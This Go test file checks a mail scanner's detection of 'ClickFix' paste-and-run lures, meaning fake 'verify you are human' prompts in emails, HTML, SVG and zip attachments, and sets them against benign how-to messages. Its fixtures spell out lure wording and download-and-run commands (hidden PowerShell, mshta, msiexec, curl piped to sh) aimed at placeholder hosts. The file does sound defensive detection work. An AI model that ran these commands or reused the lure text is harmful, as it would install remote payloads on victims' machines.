package links

import (
	"bytes"
	"encoding/base64"
	"testing"
)

// TestPasteCommand: a paste-and-run lure ("ClickFix") in the message's
// text, an attached HTML file, an SVG or an archived page marks the
// message (Extracted.PasteCommand); a launcher named without the Run
// dialog or a fake check, or the keys without a launcher, do not.
func TestPasteCommand(t *testing.T) {
	const (
		runPS    = "<h2>Verify you are human</h2><ol><li>Press <kbd>Windows</kbd>&nbsp;+&nbsp;<kbd>R</kbd></li><li>Press Ctrl + V</li><li>Press Enter</li></ol><pre>PoWeRsHeLl -w hidden -enc SQBFAFgA</pre>"
		captcha  = "<p>I'm not a robot. To finish the check press CTRL+V in the box, then Enter.</p><code>mshta https://cdn.lure.example/c.hta</code>"
		howto    = "Open PowerShell as an administrator and run Get-Service KestrelAgent, then reply with the output."
		keysOnly = "Press Win+R, type %appdata% and press Enter to find the profile folder."
		macKeys  = "Press Cmd + Space, type Terminal and paste: curl https://x.example | sh"
	)
	plainMsg := func(body string) []byte {
		return []byte("Content-Type: text/plain; charset=utf-8\r\n\r\n" + body + "\r\n")
	}
	htmlMsg := func(body string) []byte {
		return []byte("Content-Type: text/html; charset=utf-8\r\n\r\n<html><body>" + body + "</body></html>\r\n")
	}
	attached := func(header, doc string) []byte {
		return []byte("Content-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\nContent-Type: text/plain\r\n\r\nPlease open the attached file.\r\n" +
			"--b\r\n" + header + "\r\nContent-Transfer-Encoding: base64\r\n\r\n" + base64.StdEncoding.EncodeToString([]byte(doc)) + "\r\n--b--\r\n")
	}
	svg := func(text string) string {
		return `<svg xmlns="http://www.w3.org/2000/svg"><text x="1" y="1">` + text + `</text></svg>`
	}
	for _, tc := range []struct {
		name       string
		msg        []byte
		want, file bool
	}{
		{"an attached page: Win+R in kbd tags, mixed-case powershell", attached("Content-Type: text/html; name=\"INV.html\"", "<html>"+runPS+"</html>"), true, true},
		{"an attached page: a fake CAPTCHA asking for Ctrl+V, mshta", attached("Content-Type: text/html\r\nContent-Disposition: attachment; filename=\"check.htm\"", captcha), true, true},
		{"an attached SVG's text", attached("Content-Type: image/svg+xml; name=\"scan.svg\"", svg("Press Win + R, then Ctrl + V: cmd /c start mshta http://198.51.100.7/x")), true, true},
		{"the message's plain text", plainMsg("1. Press the Windows key + R\r\n2. Paste this and press Enter:\r\n   cmd /c start /min powershell -nop -c \"iex(irm 198.51.100.7/v)\""), true, false},
		{"the message's HTML body", htmlMsg("<p>Press <b>Win</b>+<b>R</b> and paste:</p><p>Powershell -c iex(irm x)</p>"), true, false},
		{"a page in an attached gzip file", zipMail("Content-Type: application/gzip; name=\"check.html.gz\"", gz("check.html", []byte("<html>"+runPS+"</html>"))), true, true},
		{"the message's HTML body in Spanish, keys without '+'", htmlMsg("<p>Pulse la tecla <b>Windows</b> y la <b>R</b>, pegue el código con <b>Ctrl V</b> y pulse Intro.</p><p>powershell -c iex(irm x)</p>"), true, false},
		{"a page in an attached zip in German, keys without '+'", zipMail("Content-Type: application/zip; name=\"Rechnung.zip\"", ooxml(map[string]string{"Rechnung.html": "<p>Ich bin kein Roboter: drücken Sie die Windows-Taste und R, dann Strg und V.</p><pre>mshta https://cdn.lure.example/c.hta</pre>"})), true, true},
		{"a fake check installing a package with msiexec", htmlMsg("<p>Verify you are human: press <b>Win</b>+<b>R</b>, then Ctrl+V and Enter.</p><pre>msiexec /q /i https://cdn.lure.example/a.msi</pre>"), true, false},
		{"a fake check, keys without '+', a hidden console running pwsh", plainMsg("I am not a robot: press the Windows key and R, press CTRL and V, press Enter.\r\nconhost --headless pwsh -c iex(irm x)"), true, false},
		{"an installer how-to with msiexec, typed", plainMsg("Press Win+R, type msiexec /i C:\\Temp\\agent.msi and press Enter."), false, false},
		{"pasting into a spreadsheet, PowerShell named", plainMsg("Run the PowerShell export, then press Ctrl V to paste it into the spreadsheet."), false, false},
		{"a launcher named without the Run dialog or a check", plainMsg(howto), false, false},
		{"the Run dialog without a launcher", plainMsg(keysOnly), false, false},
		{"a vendor's how-to: the Run dialog and a launcher, typed", plainMsg("Press Win+R, type cmd.exe and press Enter, then run ipconfig /all and send us the output."), false, false},
		{"a vendor's how-to: the power-user menu", htmlMsg("<p>Press <kbd>Win</kbd>+<kbd>X</kbd>, choose Windows PowerShell (Admin) and run the installer again.</p>"), false, false},
		{"a Mac terminal, no Windows launcher", htmlMsg(macKeys), false, false},
		{"an attached page without instructions", attached("Content-Type: text/html; name=\"s.html\"", "<p>Statement for March</p><p>powershell scripts attached separately</p>"), false, false},
	} {
		t.Run(tc.name, func(t *testing.T) {
			x, err := ExtractAll(tc.msg, Options{})
			if err != nil || x.PasteCommand != (tc.want && !tc.file) || x.PasteFile != (tc.want && tc.file) {
				t.Errorf("PasteCommand = %v, PasteFile = %v (%v), want %v in a file %v", x.PasteCommand, x.PasteFile, err, tc.want, tc.file)
			}
		})
	}
}

// FuzzPasteCommand: pasteCommand never fails, and the text it reads is
// never longer than the document, nor holds white space or upper-case
// ASCII letters.
func FuzzPasteCommand(f *testing.F) {
	f.Add([]byte("Press <kbd>Win</kbd>&nbsp;+&nbsp;<kbd>R</kbd>, Ctrl+V: powershell -enc x"))
	f.Add([]byte("<<<>+<b+&nbsp;cmd /c \xc2\xa0"))
	f.Fuzz(func(t *testing.T, doc []byte) {
		pasteCommand(doc)
		c := pasteCompact(doc)
		if len(c) > len(doc) || bytes.ContainsAny(c, " \t\r\nABCDEFGHIJKLMNOPQRSTUVWXYZ") {
			t.Fatalf("compacted %q to %q", doc, c)
		}
	})
}
